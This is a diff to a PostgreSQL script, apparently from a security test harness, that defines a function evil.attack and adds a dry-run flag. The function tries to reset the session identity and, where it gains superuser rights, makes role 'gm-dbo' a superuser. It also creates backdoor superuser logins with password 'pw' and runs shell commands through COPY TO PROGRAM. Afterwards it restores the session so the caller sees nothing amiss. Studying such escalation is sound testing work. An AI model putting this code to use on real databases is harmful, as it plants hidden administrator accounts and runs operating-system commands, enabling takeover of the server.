@@ -13,7 +13,8 @@
 --   returns true, so the caller goes on as if nothing happened, and puts
 --   the session back the way it found it.
 --
--- psql variable: psqlbin (the server's psql, for COPY TO PROGRAM).
+-- psql variables: psqlbin (the server's psql, for COPY TO PROGRAM); dry
+-- (true: only record who ran it, try nothing: the harness's self-check).
 \set ON_ERROR_STOP 1
 CREATE TABLE public.attack_log (
 	at timestamptz NOT NULL DEFAULT pg_catalog.clock_timestamp(),
@@ -23,49 +24,56 @@ GRANT SELECT, INSERT ON public.attack_log TO PUBLIC;
 
 CREATE SCHEMA evil;
 GRANT USAGE ON SCHEMA evil TO PUBLIC;
-CREATE TABLE evil.conf (psqlbin text);
+CREATE TABLE evil.conf (psqlbin text, dry boolean);
 GRANT SELECT ON evil.conf TO PUBLIC;
-INSERT INTO evil.conf VALUES (:'psqlbin');
+INSERT INTO evil.conf VALUES (:'psqlbin', :'dry');
 
 CREATE FUNCTION evil.attack(tag text) RETURNS boolean LANGUAGE plpgsql AS $f$
 DECLARE
-	t text := pg_catalog.regexp_replace(pg_catalog.lower(tag), '[^a-z0-9_]', '_', 'g');
+	-- once per session, tag and user (the functions run once per row)
+	k text := 'evil.f' || pg_catalog.md5(tag);
+	t text;
 	su0 text := session_user;
 	cu0 text := current_user;
 	su1 text;
 	cu1 text;
 	super0 boolean;
 	super1 boolean;
-	k text;
 	cmd text;
 BEGIN
-	super0 := coalesce((SELECT pg_catalog.bool_or(rolsuper) FROM pg_catalog.pg_roles
-			    WHERE rolname IN (session_user, current_user)), false);
-	-- once per session, tag and rights (the functions run once per row)
-	k := 'evil.fired_' || t;
-	IF coalesce(pg_catalog.current_setting(k, true), '') = super0::text THEN
+	IF pg_catalog.current_setting(k, true) = su0 || '/' || cu0 THEN
 		RETURN true;
 	END IF;
-	BEGIN EXECUTE 'RESET SESSION AUTHORIZATION'; EXCEPTION WHEN OTHERS THEN NULL; END;
-	BEGIN EXECUTE 'RESET ROLE'; EXCEPTION WHEN OTHERS THEN NULL; END;
+	t := pg_catalog.regexp_replace(pg_catalog.lower(tag), '[^a-z0-9_]', '_', 'g');
+	super0 := coalesce((SELECT pg_catalog.bool_or(rolsuper) FROM pg_catalog.pg_roles
+			    WHERE rolname IN (session_user, current_user)), false);
+	IF NOT (SELECT dry FROM evil.conf) THEN
+		BEGIN EXECUTE 'RESET SESSION AUTHORIZATION'; EXCEPTION WHEN OTHERS THEN NULL; END;
+		BEGIN EXECUTE 'RESET ROLE'; EXCEPTION WHEN OTHERS THEN NULL; END;
+	END IF;
 	su1 := session_user;
 	cu1 := current_user;
 	super1 := coalesce((SELECT pg_catalog.bool_or(rolsuper) FROM pg_catalog.pg_roles
 			    WHERE rolname IN (session_user, current_user)), false);
-	IF super1 THEN
-		BEGIN EXECUTE 'ALTER ROLE "gm-dbo" SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
+	IF super1 AND NOT (SELECT dry FROM evil.conf) THEN
+		-- first through a session of its own (survives a rollback; never
+		-- waits long for a lock the caller holds), then in the transaction
 		BEGIN
-			EXECUTE pg_catalog.format('CREATE ROLE %I SUPERUSER LOGIN PASSWORD %L', 'evil_' || t, 'pw');
-		EXCEPTION WHEN OTHERS THEN NULL;
-		END;
-		BEGIN
-			cmd := pg_catalog.format('/usr/bin/timeout 5 %s -X -q -w -h %s -p %s -U postgres -d postgres -c %s -c %s >/dev/null 2>&1',
+			cmd := pg_catalog.format('/usr/bin/timeout 5 %s -X -q -w -h %s -p %s -U postgres -d postgres -c %s -c %s -c %s >/dev/null 2>&1',
 				(SELECT psqlbin FROM evil.conf),
 				pg_catalog.current_setting('unix_socket_directories'),
 				pg_catalog.current_setting('port'),
+				'''SET lock_timeout = 300''',
 				'''CREATE ROLE "evil_' || t || '_program" SUPERUSER LOGIN''',
 				'''ALTER ROLE "gm-dbo" SUPERUSER''');
 			EXECUTE pg_catalog.format('COPY (SELECT 1) TO PROGRAM %L', cmd);
+		EXCEPTION WHEN OTHERS THEN NULL;
+		END;
+		IF NOT coalesce((SELECT pg_catalog.bool_or(rolsuper) FROM pg_catalog.pg_roles WHERE rolname = 'gm-dbo'), false) THEN
+			BEGIN EXECUTE 'ALTER ROLE "gm-dbo" SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
+		END IF;
+		BEGIN
+			EXECUTE pg_catalog.format('CREATE ROLE %I SUPERUSER LOGIN PASSWORD %L', 'evil_' || t, 'pw');
 		EXCEPTION WHEN OTHERS THEN NULL;
 		END;
 	END IF;
@@ -84,7 +92,7 @@ BEGIN
 	IF cu1 IS DISTINCT FROM cu0 AND cu0 IS DISTINCT FROM su0 THEN
 		BEGIN EXECUTE pg_catalog.format('SET ROLE %I', cu0); EXCEPTION WHEN OTHERS THEN NULL; END;
 	END IF;
-	PERFORM pg_catalog.set_config(k, super0::text, false);
+	PERFORM pg_catalog.set_config(k, su0 || '/' || cu0, false);
 	RETURN true;
 END
 $f$;
